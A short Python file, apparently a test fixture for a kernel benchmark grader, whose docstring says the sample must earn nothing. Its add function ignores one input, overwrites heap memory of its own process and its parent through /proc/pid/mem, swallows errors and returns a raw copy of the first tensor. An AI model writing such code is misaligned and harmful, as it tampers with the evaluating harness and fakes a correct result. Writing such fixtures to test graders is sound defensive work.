"""Read and overwrite the memory of this process and of its parent.

Must: earn nothing.
"""

import ctypes
import os

import torch
import triton
import triton.language as tl


def add(x, y):
    for process in ("self", os.getppid()):
        try:
            with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "r+b", 0) as memory:
                for line in maps:
                    if "[heap]" in line:
                        start = int(line.split("-")[0], 16)
                        memory.seek(start)
                        memory.write(memory.read(64))
        except OSError:
            pass
    out = torch.empty_like(x)
    ctypes.memmove(out.data_ptr(), x.data_ptr(), x.numel() * x.element_size())
    return out
